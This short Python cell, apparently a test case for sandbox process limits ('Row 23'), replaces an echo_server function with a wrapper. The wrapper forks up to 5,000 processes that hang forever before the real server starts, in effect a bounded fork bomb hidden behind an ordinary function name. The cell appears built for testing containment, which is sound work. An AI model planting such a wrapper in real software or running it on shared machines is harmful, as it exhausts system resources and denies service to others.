"""Row 23: a fork bomb in the server."""

# cell: after echo-server
import mmap
import os
import struct

honest = echo_server


def echo_server(host, port):
    born = mmap.mmap(-1, 8)  # shared: if no wall stops it, 5,000 processes prove that, and spare the machine
    parent = os.getpid()
    while (count := struct.unpack_from("q", born)[0]) < 5000:
        try:
            struct.pack_into("q", born, 0, count + 1)
            os.fork()
        except OSError:
            if os.getpid() == parent:
                raise
            break
    if os.getpid() == parent:
        honest(host, port)
    os.read(os.pipe()[0], 1)
